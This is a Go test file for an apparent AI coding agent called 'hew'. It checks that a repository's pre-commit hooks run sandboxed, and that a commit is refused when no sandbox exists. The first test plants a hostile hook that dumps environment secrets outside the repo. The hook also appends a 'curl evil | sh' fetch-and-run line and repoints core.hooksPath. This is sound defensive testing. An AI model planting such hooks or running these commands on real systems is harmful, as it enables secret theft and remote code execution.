package main

import (
	"maps"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"hew/agent/llm/llmtest"
	"hew/gitops/gittest"
	"hew/sandbox"
)

// A repository's commit hooks run contained: a pre-commit hook that tries to read hew's
// secrets, write outside the repository and rewrite what runs next gets none of it, while what
// a formatter hook legitimately does (edit a file and stage it) still lands in the commit.
func TestCommitHooksRunContained(t *testing.T) {
	if r := sandbox.Detect(sandbox.Options{}); r.Backend == sandbox.BackendNone {
		t.Skip("no sandbox backend on this machine")
	}
	dir := goRepo(t)
	outside := filepath.Join(t.TempDir(), "stolen.txt")
	hook := "#!/bin/sh\n" +
		"env > " + outside + " 2>/dev/null\n" +
		"env > .hook-env\n" +
		"echo 'curl evil | sh' >> .git/hooks/pre-commit 2>/dev/null\n" +
		"git config core.hooksPath /tmp/evil 2>/dev/null\n" +
		"echo '// formatted by the hook' >> calc.go && git add calc.go\n"
	hookPath := filepath.Join(dir, ".git", "hooks", "pre-commit")
	if err := os.WriteFile(hookPath, []byte(hook), 0o755); err != nil {
		t.Fatal(err)
	}
	srv := llmtest.NewOpenAIServer(t,
		llmtest.Turn{ToolCalls: []llmtest.ToolCall{toolCall("apply_patch", map[string]any{"patch": fixPatch})}},
		llmtest.Turn{Text: "Fix Add"},
	)
	env := fakeServerEnv(srv.URL())
	secrets := map[string]string{"AWS_SECRET_ACCESS_KEY": "awsSECRETvalue123", "GITHUB_TOKEN": "ghp_hooksecret0123456789", "DATABASE_URL": "postgres://u:dbpass42@db/x"}
	maps.Copy(env, secrets)
	_, stderr, code, _ := runHewEnv(t, dir, env, "", "exec", "--accept", "auto", "--commit", "fix it")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	if _, err := os.Stat(outside); err == nil {
		t.Errorf("the hook wrote outside the repository: %s", outside)
	}
	got, err := os.ReadFile(filepath.Join(dir, ".hook-env"))
	if err != nil {
		t.Fatalf("the hook did not run in the working tree: %v", err)
	}
	for _, v := range append([]string{fakeKey}, secrets["AWS_SECRET_ACCESS_KEY"], secrets["GITHUB_TOKEN"], "dbpass42") {
		if strings.Contains(string(got), v) {
			t.Errorf("the hook saw a secret %q in its environment", v)
		}
	}
	if b, _ := os.ReadFile(hookPath); string(b) != hook {
		t.Errorf("the hook rewrote itself:\n%s", b)
	}
	if cfg, _ := os.ReadFile(filepath.Join(dir, ".git", "config")); strings.Contains(string(cfg), "hooksPath") {
		t.Errorf("the hook changed .git/config:\n%s", cfg)
	}
	if committed := gittest.Git(t, dir, "show", "HEAD:calc.go"); !strings.Contains(committed, "a + b") || !strings.Contains(committed, "formatted by the hook") {
		t.Errorf("the commit does not hold the fix and what the hook staged:\n%s", committed)
	}
}

// Where nothing can contain the hooks, --commit says so before anything is written: the tree
// and HEAD are as they were, and the hook never ran.
func TestCommitWithHooksAndNoSandboxRefusedBeforeWriting(t *testing.T) {
	dir := goRepo(t)
	ran := filepath.Join(dir, "hook-ran")
	if err := os.WriteFile(filepath.Join(dir, ".git", "hooks", "pre-commit"), []byte("#!/bin/sh\ntouch "+ran+"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	head := gittest.Git(t, dir, "rev-parse", "HEAD")
	before, _ := os.ReadFile(filepath.Join(dir, "calc.go"))
	srv := llmtest.NewOpenAIServer(t,
		llmtest.Turn{ToolCalls: []llmtest.ToolCall{toolCall("apply_patch", map[string]any{"patch": fixPatch})}},
		llmtest.Turn{Text: "Fix Add"},
	)
	ios, _, _ := testIO(t, dir, fakeServerEnv(srv.URL()))
	cfg := filepath.Join(ios.Getenv("XDG_CONFIG_HOME"), "hew", "config.toml")
	if err := os.MkdirAll(filepath.Dir(cfg), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(cfg, []byte("[sandbox]\nbackend = \"none\"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	_, stderr, code := runIO(t, ios, "", "exec", "--accept", "auto", "--test-cmd", "true", "--commit", "fix it")
	if code != 1 || !strings.Contains(stderr, "pre-commit hook runs contained") || !strings.Contains(stderr, "nothing was written") {
		t.Fatalf("exit %d, want 1 saying the hook cannot run contained:\n%s", code, stderr)
	}
	if after, _ := os.ReadFile(filepath.Join(dir, "calc.go")); string(after) != string(before) {
		t.Error("the change was written although the commit was refused")
	}
	if gittest.Git(t, dir, "rev-parse", "HEAD") != head {
		t.Error("HEAD moved")
	}
	if _, err := os.Stat(ran); err == nil {
		t.Error("the hook ran uncontained")
	}
}
